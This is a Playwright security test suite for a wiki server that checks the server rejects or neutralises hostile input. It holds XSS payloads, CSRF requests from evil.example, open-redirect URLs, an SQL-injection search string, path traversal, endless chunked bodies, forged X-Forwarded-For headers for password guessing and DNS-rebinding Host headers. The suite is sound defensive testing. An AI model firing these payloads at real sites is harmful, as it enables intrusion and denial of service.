import { test, expect, type APIResponse } from "@playwright/test";
import http from "node:http";
import sharp from "sharp";
import { pngClaiming } from "../lib/testing/images";
import { mediawikiDump, mediawikiPage, mediawikiRevision } from "../lib/testing/mediawiki-export";
import { startApp } from "../scripts/lib/app.mjs";
import { INSTANCE_B, PASSWORD, apiContexts, hostileInputs, createAccount, makeAdmin, newTitle, newUsername, signInApi, slugPath, sql, verifyAddress, waitForMail } from "./fixtures";

// The security suite (`npm run test:security`, and part of `npm test`): hostile input against the real server,
// over HTTP. Every probe counts; at the end the suite says how many it tried and how many got through (0: any that
// got through has already failed its test).
test.describe.configure({ mode: "serial" });

let origin: string;
const contexts = apiContexts(() => origin);
const { ctx } = contexts;
const hostile = hostileInputs();
const { probe } = hostile;

/** A new account, signed in: its name and its request context. */
async function signedIn() {
  const name = await createAccount(await ctx());
  return { c: await contexts.signedIn(name), name };
}

test.beforeAll(({ baseURL }) => {
  origin = new URL(baseURL!).origin;
});

test.afterAll(async () => {
  await contexts.disposeAll();
  hostile.report();
});

/** A raw HTTP request (for what fetch will not send: chunked bodies of our making, lying headers). */
function raw(options: http.RequestOptions & { body?: (req: http.ClientRequest) => void }): Promise<{ status: number; body: string }> {
  const url = new URL(origin);
  return new Promise((resolve, reject) => {
    const req = http.request({ host: url.hostname, port: url.port, ...options }, (res) => {
      let body = "";
      res.on("data", (d) => (body += d));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
      res.on("error", () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on("error", (e) => ((e as NodeJS.ErrnoException).code === "ECONNRESET" || (e as NodeJS.ErrnoException).code === "EPIPE" ? resolve({ status: 0, body: "" }) : reject(e)));
    if (options.body) options.body(req);
    else req.end();
  });
}

const XSS = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "[x](javascript:alert(1))",
  "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<details open ontoggle=alert(1)>", "<h2 id=\"__next_f\">clobber</h2>", "<a name=\"__NEXT_DATA__\">x</a>",
  "<form action=\"javascript:alert(1)\"><button>x</button></form>", "<style>*{color:red}</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
];

/** Does this HTML carry anything that could run or clobber the page's own ids? */
function unsafe(html: string): boolean {
  return (
    /<\s*(script|iframe|svg|math|style|form|object|embed)/i.test(html) ||
    /\son[a-z]+\s*=/i.test(html) ||
    /(href|src)\s*=\s*"\s*(javascript|data|vbscript):/i.test(html) ||
    /\sid="(?!user-content-)[^"]*"/.test(html) ||
    /\sname="/.test(html)
  );
}

/** The tags of some HTML, without its text (escaped text such as `&quot; onclick=` is inert, and not a tag). */
function tagsOf(html: string): string {
  return (html.match(/<[^>]*>/g) ?? []).join(" ");
}

test("XSS corpus: saved, previewed and viewed, nothing can run or clobber ids", async () => {
  const { c } = await signedIn();
  for (const payload of XSS) {
    const title = newTitle("Hostile");
    const saved = await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: payload, baseRevisionId: null } });
    expect(saved.status()).toBe(201);
    const page = (await (await c.get(`/api/pages/${slugPath(title)}`)).json()) as { html: string };
    probe(!unsafe(page.html), `page html of ${payload}`);
    const preview = (await (await c.post("/api/preview", { data: { markdown: payload } })).json()) as { html: string };
    probe(!unsafe(preview.html), `preview of ${payload}`);
    const view = await (await fetch(`${origin}/wiki/${slugPath(title)}`)).text();
    const article = /<article class="article">([\s\S]*?)<\/article>/.exec(view)?.[1] ?? "";
    probe(!unsafe(article), `article view of ${payload}`);
  }
});

test("React pages that show user HTML send a nonce-based CSP, and every script they carry has the nonce", async () => {
  const { c, name } = await signedIn();
  const title = newTitle("Csp");
  const r1 = (await (await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "one", baseRevisionId: null } })).json()).revision;
  const r2 = (await (await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "two", baseRevisionId: r1.id } })).json()).revision;
  for (const url of [`/revision/${r2.id}`, `/diff?from=${r1.id}&to=${r2.id}`, `/history/${slugPath(title)}`, `/users/${name}`, `/edit/${slugPath(title)}`]) {
    const res = await c.get(url);
    const policy = res.headers()["content-security-policy"] ?? "";
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
    probe(Boolean(nonce) && /script-src [^;]*'strict-dynamic'/.test(policy) && !/unsafe-inline[^;]*;/.test(policy.split("script-src")[1]!.split(";")[0]! + ";"), `CSP of ${url}: ${policy}`);
    const html = await res.text();
    const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].map((m) => m[1]!);
    probe(scripts.length > 0 && scripts.every((attrs) => attrs.includes(`nonce="${nonce}"`)), `every script of ${url} carries the nonce`);
  }
});

test("CSRF: every state-changing endpoint refuses a foreign Origin (403) and changes nothing", async () => {
  const { name } = await signedIn();
  const evil = await ctx({ Origin: "https://evil.example" });
  await signInApi(evil, name).catch(() => {});
  const title = newTitle("Csrf");
  const calls: [string, string, unknown][] = [
    ["PUT", `/api/pages/${slugPath(title)}`, { markdown: "x", baseRevisionId: null }],
    ["POST", `/api/revert/${slugPath(title)}`, { revisionId: 1 }],
    ["POST", "/api/preview", { markdown: "x" }],
    ["POST", "/api/tokens", {}],
    ["PATCH", "/api/users/me", { bio: "pwned" }],
    ["PUT", `/api/watch/${slugPath(title)}`, undefined],
    ["PUT", `/api/drafts/${slugPath(title)}`, { markdown: "forged", baseRevisionId: null }],
    ["DELETE", `/api/drafts/${slugPath(title)}`, undefined],
    ["PUT", `/api/editors/${slugPath(title)}`, undefined],
    ["DELETE", `/api/editors/${slugPath(title)}`, undefined],
    ["POST", "/api/verify-email/send", undefined],
    ["POST", "/api/verify-email", { token: "x".repeat(20) }],
    ["POST", "/api/accounts", { username: newUsername(), email: "e@example.test", password: PASSWORD }],
    ["POST", `/api/move/${slugPath(title)}`, { to: newTitle("Stolen") }],
    ["DELETE", `/api/pages/${slugPath(title)}`, { reason: "forged" }],
    ["POST", `/api/restore/${slugPath(title)}`, {}],
    ["POST", `/api/talk/${slugPath(title)}`, { content: "forged" }],
    ["DELETE", `/api/talk/${slugPath(title)}/1`, undefined],
    ["POST", "/api/admin/cache/flush", undefined],
    ["PUT", `/api/files/File:${slugPath(title)}.png`, "not really a png"],
    ["POST", `/api/files/File:${slugPath(title)}.png/revert`, { versionId: 1 }],
    ["POST", "/api/admin/import/mediawiki", "<mediawiki version=\"0.11\"></mediawiki>"],
    ["PATCH", `/api/admin/users/${name}`, { email: "thief@example.test" }],
  ];
  for (const [method, url, data] of calls) {
    const res = await evil.fetch(url, { method, data });
    probe(res.status() === 403, `${method} ${url} from a foreign origin answered ${res.status()}`);
  }
  const page = await (await ctx()).get(`/api/pages/${slugPath(title)}`);
  probe(page.status() === 404, "the page a forged request tried to create does not exist");
});

test("drafts and who is editing: one's own only, signed in, bounded, and hostile bodies a clear 4xx", async () => {
  const alice = await signedIn();
  const bob = await signedIn();
  const anon = await ctx({ Origin: origin });
  const title = newTitle("Drafty");
  const url = `/api/drafts/${slugPath(title)}`;
  probe((await anon.get(url)).status() === 401, "a draft read without a session");
  probe((await anon.put(url, { data: { markdown: "x", baseRevisionId: null } })).status() === 401, "a draft written without a session");
  probe((await anon.put(`/api/editors/${slugPath(title)}`)).status() === 401, "presence claimed without a session");
  expect((await alice.c.put(url, { data: { markdown: "Alice's secret plan", baseRevisionId: null } })).status()).toBe(200);
  probe((await bob.c.get(url)).status() === 404, "one person read another's draft");
  probe((await bob.c.delete(url)).status() === 404, "deleting a draft one does not have");
  probe(((await (await alice.c.get(url)).json()) as { markdown?: string }).markdown === "Alice's secret plan", "one person deleted another's draft");
  for (const [data, status] of [
    [{ markdown: "x" }, 400], [{ markdown: 5, baseRevisionId: null }, 400], [{ markdown: "x", baseRevisionId: -1 }, 400],
    [{ markdown: "x", baseRevisionId: null, userId: "someone" }, 400], [{ markdown: "x".repeat(1024 * 1024 + 1), baseRevisionId: null }, 413],
    [{ markdown: ">".repeat(200) + " deep", baseRevisionId: null }, 400],
  ] as const) {
    const res = await bob.c.put(`/api/drafts/${slugPath(newTitle("Hostile"))}`, { data });
    probe(res.status() === status, `draft ${JSON.stringify(data).slice(0, 60)} answered ${res.status()}, not ${status}`);
  }
  probe((await bob.c.put("/api/drafts/bad%5Btitle%5D", { data: { markdown: "x", baseRevisionId: null } })).status() === 400, "a draft of a bad title");
  const again = await bob.c.put(`/api/drafts/${slugPath(title)}`, { data: { markdown: "one", baseRevisionId: null } });
  expect(again.status()).toBe(200);
  probe((await bob.c.put(`/api/drafts/${slugPath(title)}`, { data: { markdown: "two", baseRevisionId: null } })).status() === 429, "a draft rewritten within a second");
  // who is editing lists usernames only, never a draft's text
  expect((await alice.c.put(`/api/editors/${slugPath(title)}`)).status()).toBe(200);
  const editors = await (await anon.get(`/api/editors/${slugPath(title)}`)).text();
  probe(editors.includes(alice.name) && !editors.includes("secret plan") && !/email|userId|"id"/.test(editors), `who is editing says too much: ${editors}`);
  probe((await anon.get("/api/editors/bad%5Btitle%5D")).status() === 400, "who is editing a bad title");
});

test("links, moves and deletes: hostile links are inert, bad moves 4xx, only admins delete and restore", async () => {
  const { c } = await signedIn();
  const anon = await ctx({ Origin: origin });
  const title = newTitle("Linky");
  const markdown = [
    "[[<script>alert(1)</script>]]", "[[javascript:alert(1)]]", "[[Fine|<img src=x onerror=alert(1)>]]",
    '[[Fine|" onmouseover="alert(1)]]', "[[Fine#\"><script>alert(1)</script>]]", "[[unbalanced", "]] [[ [[x]",
    '<a data-wl="0" href="javascript:alert(1)">forged marker</a>', "[[" + "x".repeat(5000) + "]]",
  ].join("\n\n");
  expect((await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown, baseRevisionId: null } })).status()).toBe(201);
  for (const url of [`/api/pages/${slugPath(title)}`, `/wiki/${slugPath(title)}`]) {
    const body = await (await anon.get(url)).text();
    const html = url.startsWith("/api") ? (JSON.parse(body) as { html: string }).html : (/<article class="article">([\s\S]*)<\/article>/.exec(body)?.[1] ?? "");
    expect(html).toContain("javascript:alert(1)"); // the text is there, as text
    probe(!unsafe(tagsOf(html)) && !html.includes("<script>alert(1)"), `wiki links in ${url} carried markup: ${html.slice(0, 200)}`);
    probe(!/href="javascript:/i.test(html), `${url} has a javascript: link`);
  }
  const preview = (await (await c.post("/api/preview", { data: { markdown } })).json()) as { html: string };
  probe(!unsafe(tagsOf(preview.html)), "the preview of hostile wiki links carried markup");

  const target = newTitle("Target");
  await c.put(`/api/pages/${slugPath(target)}`, { data: { markdown: "t", baseRevisionId: null } });
  for (const [data, status] of [
    [{ to: "bad [title]" }, 400], [{ to: "" }, 400], [{ to: "a/../b" }, 400], [{ to: "x".repeat(5000) }, 400],
    [{ to: target }, 400], [{ to: title }, 409], [{ to: newTitle("Fine"), admin: true }, 400], [{}, 400],
    [{ to: newTitle("Fine"), leaveRedirect: "yes" }, 400],
  ] as const) {
    const res = await c.post(`/api/move/${slugPath(target)}`, { data });
    probe(res.status() === status, `move ${JSON.stringify(data).slice(0, 60)} answered ${res.status()}, not ${status}`);
  }
  probe((await anon.post(`/api/move/${slugPath(target)}`, { data: { to: newTitle("X") } })).status() === 401, "a move without a session");
  probe((await c.post(`/api/move/${slugPath(newTitle("Missing"))}`, { data: { to: newTitle("X") } })).status() === 404, "moving a missing page");
  probe((await c.delete(`/api/pages/${slugPath(target)}`, { data: { reason: "x" } })).status() === 403, "an editor deleted a page");
  probe((await anon.delete(`/api/pages/${slugPath(target)}`)).status() === 401, "a delete without a session");
  probe((await c.post(`/api/restore/${slugPath(target)}`, { data: {} })).status() === 403, "an editor restored a page");
  probe((await c.delete(`/api/pages/${slugPath(target)}`, { data: { reason: "x", force: true } })).status() === 400, "a delete with unknown fields");
  probe((await (await anon.get(`/api/pages/${slugPath(target)}`)).json()).markdown === "t", "the target survived");

  for (const url of [
    "/api/backlinks/a%2F..%2Fb", "/api/backlinks/<script>", "/api/wanted?limit=100000", "/api/pages?limit=-1",
    `/api/pages?after=${"x".repeat(5000)}`, "/api/wanted?after=%00%01",
  ]) {
    const res = await anon.get(url);
    probe(res.status() === 400 || res.status() === 200, `${url} answered ${res.status()}`);
  }
  const forged = await (await anon.get(`/wiki/${slugPath(target)}?redirectedfrom=${encodeURIComponent('"><script>alert(1)</script>')}`)).text();
  probe(!forged.includes("<script>alert(1)"), "?redirectedfrom= echoed markup");
  for (const path of [`/move/${slugPath(target)}`, `/delete/${slugPath(target)}`, `/restore/${slugPath(target)}`]) {
    const res = await anon.get(path, { maxRedirects: 0 });
    probe(res.status() === 307 || res.status() === 303 || res.status() === 302, `${path} signed out answered ${res.status()}, not a sign-in redirect`);
  }
});

test("talk, search, feeds and recent changes: hostile input is a clear 4xx and changes nothing", async () => {
  const { c, name } = await signedIn();
  const anon = await ctx({ Origin: origin });
  const title = newTitle("Talky");
  const talk = `/api/talk/${slugPath(title)}`;
  probe((await anon.post(talk, { data: { content: "anonymous" } })).status() === 401, "an anonymous comment while they are off");
  for (const [data, status] of [
    [{ content: "" }, 400], [{ content: "   " }, 400], [{ content: "x".repeat(10_001) }, 413], [{ content: "ok", author: "admin" }, 400],
    [{}, 400], [{ content: 5 }, 400], [{ content: "> ".repeat(100) + "deep" }, 400],
  ] as const) {
    const res = await c.post(talk, { data });
    probe(res.status() === status, `comment ${JSON.stringify(data).slice(0, 50)} answered ${res.status()}, not ${status}`);
  }
  const hostile = XSS.join("\n\n") + "\n\n[[<script>alert(1)</script>]]";
  const posted = await c.post(talk, { data: { content: hostile } });
  expect(posted.status()).toBe(201);
  const comment = (await posted.json()).comment as { id: number; html: string };
  probe(!unsafe(tagsOf(comment.html)), "a comment's HTML carried markup");
  const talkPage = await (await anon.get(`/talk/${slugPath(title)}`)).text();
  probe(!talkPage.includes("<script>alert(1)") && !/<img[^>]*onerror/i.test(talkPage), "the talk page ran a comment's markup");
  const other = await signedIn();
  probe((await other.c.delete(`${talk}/${comment.id}`)).status() === 403, "someone else deleted a comment");
  probe((await anon.delete(`${talk}/${comment.id}`)).status() === 401, "a comment deleted without a session");
  probe((await c.delete(`${talk}/notanumber`)).status() === 400, "a comment id that is not a number");
  probe((await c.delete(`${talk}/99999999999`)).status() === 400, "a comment id out of range");
  probe((await c.delete(`/api/talk/${slugPath(newTitle("Elsewhere"))}/${comment.id}`)).status() === 404, "a comment deleted through another talk page");
  probe((await (await anon.get(talk)).json()).comments.length === 1, "the comment survived");
  let limited = false;
  for (let i = 0; i < 8 && !limited; i++) limited = (await c.post(talk, { data: { content: `quick ${i}` } })).status() === 429;
  probe(limited, `${name} posted 8 comments in a row without a 429`);
  for (const url of ["/api/talk/a%2F..%2Fb", "/api/talk/<script>", `${talk}?limit=1000`, `${talk}?before=-4`]) {
    probe((await anon.get(url)).status() === 400, `${url} was not a 400`);
  }
  for (const url of ["/talk/a%3Cscript%3E", "/talk/x%7Cy", `/history/${"x".repeat(300)}`, "/edit/a%5Bb%5D", "/move/%7B"]) {
    const res = await anon.get(url, { maxRedirects: 0 });
    const body = await res.text();
    probe(res.status() === 400 && body.includes("Invalid title") && !body.includes("<script>"), `${url} answered ${res.status()}, not a readable 400`);
  }

  for (const q of ['"', "a & | ! b", "foo:*", "a <-> b", "\\", "'; DROP TABLE pages; --", "<script>alert(1)</script>", "%00", "\u0000", "😀", "x".repeat(500)]) {
    const res = await anon.get(`/api/search?q=${encodeURIComponent(q)}`);
    probe(res.status() === 200, `search ${JSON.stringify(q).slice(0, 30)} answered ${res.status()}`);
    const body = (await res.json()) as { results: { snippet: string }[] };
    probe(body.results.every((r) => !/<(?!\/?mark>)/.test(r.snippet)), `a snippet for ${q.slice(0, 20)} carried markup`);
    const page = await anon.get(`/search?q=${encodeURIComponent(q)}`, { maxRedirects: 0 });
    probe(page.status() < 500 && !(await page.text()).includes("<script>alert(1)"), `the search page for ${q.slice(0, 20)} answered ${page.status()}`);
  }
  probe((await anon.get(`/api/search?q=${"x".repeat(501)}`)).status() === 400, "a 501-character search");
  probe((await anon.get("/api/search?q=x&limit=100000")).status() === 400, "a search asking for 100,000 results");
  probe((await anon.get(`/feed/${slugPath(newTitle("Nowhere"))}`)).status() === 404, "a feed of a missing page");
  probe((await anon.get("/feed/a%2F..%2Fb")).status() === 400, "a feed of a bad title");
  for (const url of ["/api/recent-changes?before=garbage", "/api/recent-changes?kind=everything", "/api/recent-changes?limit=0"]) {
    probe((await anon.get(url)).status() === 400, `${url} was not a 400`);
  }
  probe((await anon.post("/api/admin/cache/flush")).status() === 401, "a flush without a session");
  probe((await c.post("/api/admin/cache/flush")).status() === 403, "a flush by an editor");
});

test("address verification: no session 401, made-up or malformed tokens 4xx, the page escapes what it is given", async () => {
  const anon = await ctx({ Origin: origin });
  probe((await anon.post("/api/verify-email/send")).status() === 401, "a confirmation link was sent for nobody");
  for (const [data, status] of [
    [{ token: "x".repeat(43) }, 404],
    [{ token: "short" }, 400],
    [{ token: "y".repeat(5000) }, 400],
    [{ token: "x".repeat(43), userId: "someone" }, 400],
    [{}, 400],
  ] as const) {
    const res = await anon.post("/api/verify-email", { data });
    probe(res.status() === status, `verify-email ${JSON.stringify(data).slice(0, 60)} answered ${res.status()}`);
  }
  const page = await (await anon.get(`/verify-email?token=${encodeURIComponent('"><script>alert(1)</script>')}`)).text();
  probe(!page.includes("<script>alert(1)</script>"), "the verification page echoed markup");
});

test("bad titles, numbers out of range and missing revisions are 4xx, never 500", async () => {
  const anon = await ctx();
  for (const url of ["/api/pages/a%2F..%2Fb", "/api/pages/%ZZ", "/wiki/a//b", "/wiki/%E0%A4%A", "/api/pages/<script>", `/api/pages/${"x".repeat(300)}`]) {
    const res = await anon.get(url, { maxRedirects: 0 });
    probe(res.status() >= 400 && res.status() < 500, `${url} answered ${res.status()}`);
  }
  const { c } = await signedIn();
  const title = newTitle("Numbers");
  await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "x", baseRevisionId: null } });
  for (const url of [
    `/api/history/${slugPath(title)}?before=99999999999`, `/api/history/${slugPath(title)}?limit=1e400`,
    `/api/history/${slugPath(title)}?before=-1`, "/api/revisions/99999999999", "/api/diff?from=1&to=99999999999",
    "/api/diff?from=abc&to=1",
  ]) {
    const res = await c.get(url);
    probe(res.status() === 400 || res.status() === 404, `${url} answered ${res.status()}`);
  }
  // React pages cannot answer 400 themselves: they show a readable notice, never a 500
  for (const url of [`/history/${slugPath(title)}?before=99999999999`, "/diff?from=1&to=99999999999"]) {
    const res = await c.get(url);
    probe(res.status() < 500 && /Bad request/.test(await res.text()), `${url} answered ${res.status()}`);
  }
  for (const url of ["/revision/2147483000", "/revision/99999999999"]) {
    const res = await c.get(url);
    probe(res.status() === 404, `${url} answered ${res.status()}`);
  }
});

test("bodies are counted as they arrive: too large answers 413, declared or chunked, on every route", async () => {
  const { c } = await signedIn();
  const cookie = (await c.storageState()).cookies.map((k) => `${k.name}=${k.value}`).join("; ");
  for (const url of ["/api/accounts", "/api/auth/callback/credentials", "/api/preview", "/api/pages/Big", "/signup"]) {
    const headers = { "Content-Type": "application/json", Origin: origin, Cookie: cookie };
    const declared = await raw({ method: "POST", path: url, headers: { ...headers, "Content-Length": String(64 * 1024 * 1024) } });
    probe(declared.status === 413, `declared 64 MiB to ${url}: ${declared.status}`);
    const chunked = await raw({
      method: url === "/api/pages/Big" ? "PUT" : "POST",
      path: url,
      headers: { ...headers, "Transfer-Encoding": "chunked" },
      body: (req) => {
        // an endless body: keep writing until the server stops us (or 20 MiB, far past every limit)
        const chunk = Buffer.alloc(256 * 1024, 0x61);
        let sent = 0;
        const write = () => {
          while (sent < 20 * 1024 * 1024) {
            sent += chunk.length;
            if (!req.write(chunk)) return void req.once("drain", write);
          }
          req.end();
        };
        req.on("error", () => {});
        write();
      },
    });
    // a page (/signup) reads no body at all: it may answer before the limit is reached; then the rest is
    // discarded unread, counted, and the connection closed at the limit
    probe(chunked.status === 413 || chunked.status === 0 || (url === "/signup" && chunked.status === 200), `endless chunked body to ${url}: ${chunked.status}`);
  }
  const health = await (await ctx()).get("/api/health");
  probe(health.ok(), "the server still answers");
  probe((await (await ctx()).get("/api/pages/Big")).status() === 404, "no cut-off body was taken for a whole one");
});

test("password guessing as JSON, with rotating X-Forwarded-For, still meets the limit (429)", async () => {
  const name = await createAccount(await ctx());
  const c = await ctx();
  const statuses: number[] = [];
  for (let i = 0; i < 8; i++) {
    const { csrfToken } = (await (await c.get("/api/auth/csrf")).json()) as { csrfToken: string };
    const res = await c.post("/api/auth/callback/credentials", {
      data: { csrfToken, username: name.toUpperCase(), password: `wrong ${i}`, json: "true" },
      headers: { "X-Forwarded-For": `198.51.100.${i}`, "X-Vellum-Client-Ip": `198.51.100.${i}` },
      maxRedirects: 0,
    });
    statuses.push(res.status());
  }
  probe(statuses.slice(-2).every((s) => s === 429), `JSON guesses answered ${statuses.join(",")}`);
});

test("a sign-in callbackUrl that would leave the site is replaced by a path on the site", async () => {
  for (const hostile of ["/\t/evil.example", "//evil.example", "/\\evil.example", "https://evil.example", "javascript:alert(1)"]) {
    // the forms get their return path as a prop (in the page's flight data): only the main page may remain
    const html = await (await (await ctx()).get(`/signin?callbackUrl=${encodeURIComponent(hostile)}`)).text();
    const given = [...html.matchAll(/callbackUrl\\?":\\?"([^"\\]*)/g)].map((m) => m[1]);
    probe(given.length > 0 && given.every((v) => v === "/wiki/Main_Page"), `/signin passed ${JSON.stringify(given)} for ${JSON.stringify(hostile)}`);
    const c = await ctx();
    const name = await createAccount(c);
    const { csrfToken } = (await (await c.get("/api/auth/csrf")).json()) as { csrfToken: string };
    const res = await c.post("/api/auth/callback/credentials", { form: { csrfToken, username: name, password: PASSWORD, json: "true", callbackUrl: hostile } });
    const { url } = (await res.json()) as { url: string };
    probe(new URL(url, origin).origin === origin, `next-auth sent ${JSON.stringify(hostile)} to ${url}`);
  }
});

test("magic links cannot bomb an inbox: spellings of one address are one address, limited per address", async () => {
  const victim = await createAccount(await ctx());
  const address = `${victim}@example.test`;
  // seven spellings of one address (five get a link, then 429), and two with a second "address" after a comma
  const spellings = [address, address.toUpperCase(), ` ${address} `, `${address},1`, `${victim}@Example.Test`, `${address},2`, address, address, address];
  const c = await ctx({ Origin: origin });
  const statuses: number[] = [];
  for (const [i, email] of spellings.entries()) {
    const { csrfToken } = (await (await c.get("/api/auth/csrf")).json()) as { csrfToken: string };
    const res = await c.post("/api/auth/signin/email", {
      form: { csrfToken, email, json: "true" },
      headers: { "X-Forwarded-For": `203.0.113.${i}` },
      maxRedirects: 0,
    });
    statuses.push(res.status());
  }
  probe(statuses.slice(-2).every((s) => s === 429), `link requests answered ${statuses.join(",")}`);
  // the limited requests were refused before any token was made; the others' mails are queued by now
  const links = (await waitForMail(address, (m) => /Sign in to Vellum/.test(m.subject ?? ""), 5)).length;
  probe(links <= 5, `${links} sign-in mails reached one inbox`);
  // links are queued in the request itself: the outbox shows every message there will ever be
  const queued = await sql("SELECT to_address FROM outbox WHERE kind = 'signin' AND position($1 in lower(to_address)) > 0", [victim.toLowerCase()]);
  probe(queued.length <= 5 && queued.every((r: { to_address: string }) => r.to_address === address), `sign-in links queued: ${JSON.stringify(queued)}`);
});

test("change mail goes only to verified addresses; a bearer token cannot mint tokens", async () => {
  const { c: author } = await signedIn();
  const verified = await signedIn();
  const unverified = await signedIn();
  await verifyAddress(await ctx({ Origin: origin }), verified.name);
  const title = newTitle("Watched");
  const r1 = (await (await author.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "one\n", baseRevisionId: null } })).json()).revision;
  await verified.c.put(`/api/watch/${slugPath(title)}`);
  await unverified.c.put(`/api/watch/${slugPath(title)}`);
  await author.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "two\n", baseRevisionId: r1.id } });
  // change mails are queued in the save's own transaction: the verified watcher's arrives, and the outbox holds
  // nothing for the unverified one
  const arrived = await waitForMail(`${verified.name}@example.test`, (m) => (m.subject ?? "").includes(title));
  expect(arrived.length).toBe(1);
  const leaked = await sql("SELECT id FROM outbox WHERE to_address = $1 AND position($2 in subject) > 0", [`${unverified.name}@example.test`, title]);
  probe(leaked.length === 0, "a change mail was queued for an unverified address");

  const token = ((await (await verified.c.post("/api/tokens", { data: { name: "bot", expiresInDays: 1 } })).json()) as { token: string }).token;
  const bot = await ctx({ Authorization: `Bearer ${token}` });
  probe((await bot.post("/api/tokens", { data: {} })).status() === 403, "a token created a token");
  probe((await bot.get("/api/me")).status() === 200, "the token itself works");
});

test("CPU-heavy input cannot stall the server: huge diffs, quadratic Markdown, deep nesting", async () => {
  const { c } = await signedIn();
  const title = newTitle("Heavy");
  const a = (await (await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "a\n".repeat(32_768), baseRevisionId: null } })).json()).revision;
  const b = (await (await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "b\n".repeat(32_768), baseRevisionId: a.id } })).json()).revision;
  const [diff, health] = await Promise.all([c.get(`/api/diff?from=${a.id}&to=${b.id}`), (async () => {
    await new Promise((r) => setTimeout(r, 50));
    return c.get("/api/health");
  })()]);
  probe(diff.status() === 200 && ((await diff.json()) as { exact: boolean }).exact === false, "a 32,768-line diff gave up cleanly");
  probe(health.ok(), "the server answered others meanwhile");
  const page = await c.get(`/diff?from=${a.id}&to=${b.id}`);
  probe(page.status() === 200, "the /diff page of it renders");

  const preview = (await (await c.post("/api/preview", { data: { markdown: "_a".repeat(100_000) } })).json()) as { gaveUp: string | null; html: string };
  probe(preview.gaveUp !== null && preview.html.includes("too complex"), "quadratic emphasis gave up at its deadline");
  for (const url of ["/api/preview", `/api/pages/${slugPath(newTitle("Deep"))}`]) {
    const data = url === "/api/preview" ? { markdown: ">".repeat(2000) } : { markdown: ">".repeat(2000), baseRevisionId: null };
    const res = await c.fetch(url, { method: url === "/api/preview" ? "POST" : "PUT", data });
    probe(res.status() === 400, `2,000 nested quotes to ${url}: ${res.status()}`);
  }
  const mergeTitle = newTitle("Merge");
  const base = (await (await c.put(`/api/pages/${slugPath(mergeTitle)}`, { data: { markdown: "x\n".repeat(5000), baseRevisionId: null } })).json()).revision;
  await c.put(`/api/pages/${slugPath(mergeTitle)}`, { data: { markdown: "x\n".repeat(4999) + "theirs\n", baseRevisionId: base.id } });
  const stale = await c.put(`/api/pages/${slugPath(mergeTitle)}`, { data: { markdown: "mine\n" + "x\n".repeat(4999), baseRevisionId: base.id } });
  probe(stale.status() === 200 && ((await stale.json()) as { merged: boolean }).merged === true, "a stale save over 5,000 equal lines merged");
});

test("a save or a search of text that makes PostgreSQL's parser quadratic answers at once, and holds no connection", async () => {
  const { c } = await signedIn();
  // runs of punctuation PostgreSQL's text-search parser reads in quadratic time when handed them whole
  const shapes = ["_a", "a-b.", "_1", "a_", "-a", "x@a.", "1.", "a/", "http://a.", "a.1/", "é_"];
  for (const shape of shapes) {
    const title = newTitle("Parser");
    const res = await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: shape.repeat(Math.ceil(60_000 / shape.length)), baseRevisionId: null } });
    probe(res.status() === 201, `saving ${JSON.stringify(shape)} × ${Math.ceil(60_000 / shape.length)} answered ${res.status()}`);
    const search = await c.get(`/api/search?q=${encodeURIComponent(shape.repeat(200).slice(0, 500))}`);
    probe(search.status() === 200, `searching ${JSON.stringify(shape)} repeated answered ${search.status()}`);
  }
});

test("searches cannot starve the pool: long queries of common words answer 200, many at once, and health stays up", async () => {
  const { c } = await signedIn();
  const common = "the of and to in is was for on that with as by at from his it an were are which this be or has had not but".split(" ");
  const body = Array.from({ length: 3500 }, (_, i) => common[i % common.length]).join(" ");
  for (let i = 0; i < 20; i++) {
    expect((await c.put(`/api/pages/${slugPath(newTitle("Common words"))}`, { data: { markdown: body, baseRevisionId: null } })).status()).toBe(201);
  }
  const query = Array.from({ length: 78 }, (_, i) => common[i % common.length]).join(" ").slice(0, 500);
  const anon = await ctx();
  const searches = Array.from({ length: 12 }, () => anon.get(`/api/search?q=${encodeURIComponent(query)}`));
  const health = await anon.get("/api/health");
  const statuses = await Promise.all(searches.map(async (s) => (await s).status()));
  probe(statuses.every((s) => s === 200), `twelve long searches at once answered ${statuses.join(",")}`);
  probe(health.status() === 200 && (await health.json()).db === "up", "health reported the database down during the searches");
});

test("bad queries of React pages are 400, as bad titles are; a name is decoded once", async () => {
  const anon = await ctx();
  for (const path of [
    "/history/Main_Page?before=99999999999", "/history/Main_Page?before=abc", "/recent-changes?before=zz", "/recent-changes?kind=nope",
    "/talk/Main_Page?before=-1", "/search?offset=abc", `/search?q=${"x".repeat(501)}`, "/diff?from=1&to=x", "/users/nobody?before=zz",
    "/wanted?limit=0", "/pages?limit=100000", "/backlinks/Main_Page?limit=-5", "/wiki/Main_Page?x=%ZZ",
  ]) {
    const res = await anon.get(path, { maxRedirects: 0 });
    probe(res.status() === 400, `${path} answered ${res.status()}`);
  }
  for (const path of ["/users/%25ff", "/users/%25", "/api/users/%25ff"]) {
    const res = await anon.get(path);
    probe(res.status() === 404, `${path} answered ${res.status()}`);
  }
});

test("one canonical origin: another Host (DNS rebinding) cannot change state or take a fresh wiki; redirects stay on the site", async () => {
  const port = new URL(origin).port;
  for (const host of [`rebind.evil.example:${port}`, "evil.example", `localhost.evil.example:${port}`]) {
    const name = newUsername("rebind");
    const res = await raw({
      method: "POST",
      path: "/api/accounts",
      headers: { Host: host, Origin: `http://${host}`, "Content-Type": "application/json" },
      body: (req) => req.end(JSON.stringify({ username: name, email: `${name}@example.test`, password: "correct horse battery" })),
    });
    probe(res.status === 403, `sign-up through Host ${host} answered ${res.status}`);
    probe((await sql("SELECT 1 FROM users WHERE username_key = $1", [name.toLowerCase()])).length === 0, `an account was made through Host ${host}`);
